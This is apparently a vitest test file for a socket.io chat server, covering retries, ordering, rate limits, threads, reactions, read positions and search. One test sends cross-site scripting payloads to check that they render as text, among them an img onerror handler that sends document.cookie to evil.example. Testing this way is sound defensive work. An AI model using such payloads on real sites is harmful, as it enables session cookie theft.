/**
 * Messages over socket.io: idempotent retries, one order for everyone under concurrent sends, rate limits,
 * threads, reactions, edits, deletions, unread counts, read positions across a person's sockets, history
 * pages, search, and messages with HTML or script that stay text.
 */
import { renderMessageMarkdown } from '@cope/domain';
import { afterEach, describe, expect, it } from 'vitest';
import { waitFor } from './helpers.js';
import {
  clientId,
  collect,
  connected,
  expectOk,
  request,
  startChannelServer,
  type ChannelServer,
  type Person,
} from './channels-fixture.js';

let t: ChannelServer | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
});

async function spaceWith(server: ChannelServer, n: number) {
  const people: Person[] = [];
  for (let i = 0; i < n; i++) people.push(await server.person());
  const space = await server.space(people.map((p) => [p, 'editor']));
  const sockets = [];
  for (const p of people) {
    const s = await connected(server.socket(p));
    await expectOk(s, 'channel:join', { channelId: space.generalId });
    sockets.push(s);
  }
  return { ...space, people, sockets };
}

describe('sending', () => {
  it('stores a retried send once and acknowledges it with the stored message', async () => {
    t = await startChannelServer();
    const { generalId, sockets } = await spaceWith(t, 2);
    const [sa, sb] = sockets as [NonNullable<(typeof sockets)[0]>, NonNullable<(typeof sockets)[0]>];
    const received = collect(sb, 'message:new');
    const id = clientId();
    const payload = { channelId: generalId, clientId: id, body: 'only once' };
    // The same send three times at once (a retry racing the original), then once more later.
    const acks = await Promise.all([1, 2, 3].map(() => expectOk(sa, 'message:send', payload)));
    const later = await expectOk(sa, 'message:send', payload);
    const ids = new Set([...acks, later].map((a) => a.message.id));
    expect(ids.size).toBe(1);
    expect([...acks, later].filter((a) => !a.duplicate)).toHaveLength(1);
    expect(later.duplicate).toBe(true);
    const page = await expectOk(sb, 'history:page', { channelId: generalId });
    expect(page.messages.map((m) => m.body)).toEqual(['only once']);
    await waitFor(() => received.length >= 1, 'the broadcast');
    await new Promise((r) => setTimeout(r, 100));
    expect(received).toHaveLength(1);
    // A reconnecting client resends its outbox: still no duplicate.
    sa.disconnect();
    const again = await connected(t.socket(await personOf(t, page.messages[0]?.authorId)));
    expect((await expectOk(again, 'message:send', payload)).duplicate).toBe(true);
  });

  it('gives every member the same order under concurrent sends from many people', async () => {
    t = await startChannelServer({ sendLimit: { burst: 1000, perSecond: 1000 } });
    const { generalId, sockets } = await spaceWith(t, 5);
    const seen = sockets.map((s) => collect(s, 'message:new'));
    const perPerson = 30;
    await Promise.all(
      sockets.map((s, who) =>
        Promise.all(
          Array.from({ length: perPerson }, (_, i) =>
            expectOk(s, 'message:send', { channelId: generalId, clientId: clientId(), body: `${who}-${i}` }),
          ),
        ),
      ),
    );
    const total = sockets.length * perPerson;
    await waitFor(() => seen.every((list) => list.length === total), 'every delivery');
    const orders = seen.map((list) => list.map((m) => m.seq).join(','));
    expect(new Set(orders).size).toBe(1);
    const seqs = seen[0]?.map((m) => m.seq) ?? [];
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
    expect(new Set(seqs).size).toBe(total);
    // Each person's messages keep the order they were sent in.
    for (let who = 0; who < sockets.length; who++) {
      const mine = (seen[0] ?? [])
        .filter((m) => m.body.startsWith(`${who}-`))
        .map((m) => Number(m.body.split('-')[1]));
      expect(mine).toEqual([...mine].sort((a, b) => a - b));
    }
    // History agrees with the live order.
    const page = await expectOk(sockets[0]!, 'history:page', { channelId: generalId, limit: 100 });
    const older = await expectOk(sockets[0]!, 'history:page', {
      channelId: generalId,
      before: page.messages[0]?.seq ?? 1,
      limit: 100,
    });
    expect([...older.messages, ...page.messages].map((m) => m.seq)).toEqual(seqs);
    expect(older.hasOlder).toBe(false);
    expect(page.hasOlder).toBe(true);
  });

  it('keeps one socket’s messages in the order sent, even when the first needs slower checks', async () => {
    t = await startChannelServer();
    const { generalId, sockets, people } = await spaceWith(t, 1);
    const root = await expectOk(sockets[0]!, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'root',
    });
    // A fresh socket (nothing cached); the first send looks up its thread and a mention, the second nothing.
    const fresh = await connected(t.socket(people[0]!));
    const slow = request(fresh, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: `reply for @[Me](person:${people[0]!.userId})`,
      parentId: root.message.id,
    });
    const quick = request(fresh, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'after',
    });
    const [a, b] = await Promise.all([slow, quick]);
    if (!a.ok || !b.ok) throw new Error('refused');
    expect(a.message.seq).toBeLessThan(b.message.seq);
  });

  it('limits each person, across their sockets, with a clear error and a retry-after', async () => {
    t = await startChannelServer({ sendLimit: { burst: 5, perSecond: 2 } });
    const [ana] = [await t.person()];
    const { generalId } = await t.space([[ana, 'editor']]);
    const s1 = await connected(t.socket(ana));
    const s2 = await connected(t.socket(ana));
    const errors = collect(s2, 'channel:error');
    for (let i = 0; i < 5; i++) {
      await expectOk(i % 2 ? s1 : s2, 'message:send', {
        channelId: generalId,
        clientId: clientId(),
        body: `m${i}`,
      });
    }
    const refused = await request(s2, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'm5',
    });
    expect(refused).toMatchObject({ ok: false, error: { code: 'rate_limited' } });
    const wait = refused.ok ? 0 : (refused.error.retryAfterMs ?? 0);
    expect(wait).toBeGreaterThan(0);
    expect(wait).toBeLessThanOrEqual(500);
    await waitFor(() => errors.length === 1, 'the channel:error event');
    expect(errors[0]).toMatchObject({ code: 'rate_limited', event: 'message:send' });
    await new Promise((r) => setTimeout(r, wait + 20));
    await expectOk(s1, 'message:send', { channelId: generalId, clientId: clientId(), body: 'after waiting' });
  });
});

async function personOf(server: ChannelServer, userId: string | undefined): Promise<Person> {
  const { generateSessionToken, createSession } = await import('@cope/db');
  const token = generateSessionToken();
  await createSession(server.db.connection, token, userId ?? '');
  return {
    userId: userId ?? '',
    name: '',
    cookie: `cope_session=${token}`,
    actor: { userId: userId ?? '', networkRole: 'member', disabled: false },
  };
}

describe('conversation features', () => {
  it('threads: replies carry the parent, the parent counts them, thread pages list them', async () => {
    t = await startChannelServer();
    const { generalId, sockets } = await spaceWith(t, 2);
    const [sa, sb] = [sockets[0]!, sockets[1]!];
    const updates = collect(sb, 'message:updated');
    const root = await expectOk(sa, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'root',
    });
    for (const body of ['r1', 'r2']) {
      await expectOk(sb, 'message:send', {
        channelId: generalId,
        clientId: clientId(),
        body,
        parentId: root.message.id,
      });
    }
    await waitFor(() => updates.filter((u) => u.id === root.message.id).length === 2, 'the parent updates');
    expect(updates.at(-1)).toMatchObject({ id: root.message.id, replyCount: 2 });
    const thread = await expectOk(sa, 'history:page', { channelId: generalId, parentId: root.message.id });
    expect(thread.messages.map((m) => m.body)).toEqual(['r1', 'r2']);
    // The channel's own pages hold top-level messages only.
    const main = await expectOk(sa, 'history:page', { channelId: generalId });
    expect(main.messages.map((m) => m.body)).toEqual(['root']);
    expect(main.messages[0]?.replyCount).toBe(2);
    // Replies to replies are refused; a parent from another channel is not found.
    const reply = thread.messages[0]!;
    expect(
      await request(sa, 'message:send', {
        channelId: generalId,
        clientId: clientId(),
        body: 'x',
        parentId: reply.id,
      }),
    ).toMatchObject({ ok: false, error: { code: 'invalid' } });
  });

  it('reactions, edits and deletions: who may, and everyone sees the change', async () => {
    t = await startChannelServer();
    const { generalId, sockets, people, owner } = await spaceWith(t, 2);
    const [sa, sb] = [sockets[0]!, sockets[1]!];
    const updates = collect(sb, 'message:updated');
    const sent = await expectOk(sa, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'first *draft*',
    });
    const id = sent.message.id;

    await expectOk(sb, 'reaction:add', { messageId: id, emoji: '👍' });
    await expectOk(sb, 'reaction:add', { messageId: id, emoji: '👍' }); // idempotent
    const both = await expectOk(sa, 'reaction:add', { messageId: id, emoji: '👍' });
    expect(both.message.reactions).toEqual([
      { emoji: '👍', userIds: [people[1]!.userId, people[0]!.userId] },
    ]);
    const removed = await expectOk(sb, 'reaction:remove', { messageId: id, emoji: '👍' });
    expect(removed.message.reactions).toEqual([{ emoji: '👍', userIds: [people[0]!.userId] }]);

    expect(await request(sb, 'message:edit', { messageId: id, body: 'hijacked' })).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    const edited = await expectOk(sa, 'message:edit', { messageId: id, body: 'final' });
    expect(edited.message).toMatchObject({ body: 'final' });
    expect(edited.message.editedAt).not.toBeNull();

    expect(await request(sb, 'message:delete', { messageId: id })).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    // The space owner moderates.
    const so = await connected(t.socket(owner));
    const deleted = await expectOk(so, 'message:delete', { messageId: id });
    expect(deleted.message).toMatchObject({ body: '', reactions: [], mentions: [], deletedBy: owner.userId });
    expect(deleted.message.deletedAt).not.toBeNull();
    await waitFor(() => updates.some((u) => u.deletedAt !== null), 'the tombstone');
    const page = await expectOk(sb, 'history:page', { channelId: generalId });
    expect(page.messages).toHaveLength(1);
    expect(page.messages[0]?.body).toBe('');
    expect(await request(sa, 'message:edit', { messageId: id, body: 'back' })).toMatchObject({ ok: false });

    // Concurrent reactions from two people are both kept.
    const m2 = await expectOk(sa, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'again',
    });
    await Promise.all([
      expectOk(sa, 'reaction:add', { messageId: m2.message.id, emoji: '🎉' }),
      expectOk(sb, 'reaction:add', { messageId: m2.message.id, emoji: '🎉' }),
      expectOk(sb, 'reaction:add', { messageId: m2.message.id, emoji: '❤️' }),
    ]);
    const final = await expectOk(sa, 'history:page', { channelId: generalId });
    const reactions = final.messages.at(-1)?.reactions ?? [];
    expect(reactions.find((r) => r.emoji === '🎉')?.userIds).toHaveLength(2);
    expect(reactions.find((r) => r.emoji === '❤️')?.userIds).toHaveLength(1);
  });

  it('resolves @mentions of people and organisations that exist, keeps others as text', async () => {
    t = await startChannelServer();
    const { generalId, sockets, people } = await spaceWith(t, 1);
    const ghost = 'f'.repeat(24);
    const body = `hi @[Whoever](person:${people[0]!.userId}) and @[Ghost](person:${ghost})`;
    const sent = await expectOk(sockets[0]!, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body,
    });
    expect(sent.message.mentions).toEqual([{ kind: 'person', id: people[0]!.userId, name: people[0]!.name }]);
  });

  it('HTML and script in messages are stored as typed and rendered as text', async () => {
    t = await startChannelServer();
    const { generalId, sockets } = await spaceWith(t, 2);
    const received = collect(sockets[1]!, 'message:new');
    const bodies = [
      '<script>alert(document.cookie)</script>',
      '<img src=x onerror="fetch(`//evil.example?c=${document.cookie}`)">',
      '[win](javascript:alert(1)) **<b onmouseover=alert(1)>x</b>**',
    ];
    for (const body of bodies) {
      await expectOk(sockets[0]!, 'message:send', { channelId: generalId, clientId: clientId(), body });
    }
    await waitFor(() => received.length === bodies.length, 'the messages');
    expect(received.map((m) => m.body)).toEqual(bodies);
    for (const m of received) {
      const html = renderMessageMarkdown(m.body);
      expect(html).not.toMatch(/<(script|img|b)[\s>]/i);
      expect(html).not.toMatch(/href="javascript/i);
    }
  });
});

describe('unread counts and read positions', () => {
  it('counts others’ top-level messages, shares the read position across a person’s sockets', async () => {
    t = await startChannelServer();
    const { spaceId, generalId, people, sockets } = await spaceWith(t, 2);
    const [sa] = [sockets[0]!];
    const ben = people[1]!;
    const benPhone = await connected(t.socket(ben));
    const benLaptop = await connected(t.socket(ben));
    await expectOk(benLaptop, 'channels:watch', { channelIds: [generalId] });
    const activity = collect(benLaptop, 'channel:activity');
    const readUpdates = collect(benLaptop, 'read:updated');

    const sent: number[] = [];
    for (let i = 0; i < 3; i++) {
      const ack = await expectOk(sa, 'message:send', {
        channelId: generalId,
        clientId: clientId(),
        body: `m${i}`,
      });
      sent.push(ack.message.seq);
    }
    await expectOk(sa, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'reply',
      parentId: (await expectOk(sa, 'history:page', { channelId: generalId })).messages[0]!.id,
    });
    await waitFor(() => activity.length === 4, 'activity for the badge');
    const list = await expectOk(benPhone, 'channels:list', { spaceId });
    expect(list.channels[0]).toMatchObject({ name: 'general', unread: 3, readSeq: 0 });
    // The sender has read their own messages.
    await t.server.channels?.settled();
    expect((await expectOk(sa, 'channels:list', { spaceId })).channels[0]?.unread).toBe(0);

    // The first unread page opens at the first unread message.
    const marked = await expectOk(benPhone, 'read:mark', { channelId: generalId, seq: sent[0]! });
    expect(marked).toMatchObject({ readSeq: sent[0], unread: 2 });
    await waitFor(() => readUpdates.length === 1, 'the other socket to learn the read position');
    expect(readUpdates[0]).toEqual({ channelId: generalId, readSeq: sent[0], unread: 2 });
    const page = await expectOk(benLaptop, 'history:page', {
      channelId: generalId,
      firstUnread: true,
      limit: 1,
    });
    expect(page.messages.map((m) => m.body)).toEqual(['m1']);
    expect(page).toMatchObject({ hasOlder: true, hasNewer: true });

    // Positions only move forward, and never past the last message.
    expect(await expectOk(benLaptop, 'read:mark', { channelId: generalId, seq: 0 })).toMatchObject({
      readSeq: sent[0],
    });
    const all = await expectOk(benLaptop, 'read:mark', { channelId: generalId, seq: 1_000_000 });
    expect(all.unread).toBe(0);
    expect(all.readSeq).toBeLessThan(1_000_000);
  });

  it('reports typing and presence to the channel’s other members', async () => {
    t = await startChannelServer();
    const { generalId, sockets, people } = await spaceWith(t, 2);
    const typing = collect(sockets[1]!, 'typing');
    sockets[0]!.emit('typing', { channelId: generalId });
    await waitFor(() => typing.length === 1, 'the typing event');
    expect(typing[0]).toMatchObject({
      channelId: generalId,
      userId: people[0]!.userId,
      name: people[0]!.name,
    });
    const presence = collect(sockets[1]!, 'presence');
    sockets[0]!.disconnect();
    await waitFor(() => presence.some((p) => p.online.length === 1), 'presence after a disconnect');
    expect(presence.at(-1)).toEqual({ channelId: generalId, online: [people[1]!.userId] });
  });
});

describe('search', () => {
  it('finds words in the channels one may read, not elsewhere', async () => {
    t = await startChannelServer();
    const { generalId, sockets, people } = await spaceWith(t, 1);
    const other = await spaceWith(t, 1);
    await expectOk(sockets[0]!, 'message:send', {
      channelId: generalId,
      clientId: clientId(),
      body: 'Réunion à Zagreb jeudi',
    });
    await expectOk(other.sockets[0]!, 'message:send', {
      channelId: other.generalId,
      clientId: clientId(),
      body: 'Secret reunion in Zagreb',
    });
    const hits = await t.service.search(people[0]!.actor, { q: 'zagreb REUNION', limit: 20 });
    if (!hits.ok) throw new Error('search refused');
    expect(hits.value.map((h) => h.message.body)).toEqual(['Réunion à Zagreb jeudi']);
    const none = await t.service.search(people[0]!.actor, { q: 'secret', limit: 20 });
    expect(none.ok && none.value).toEqual([]);
  });
});
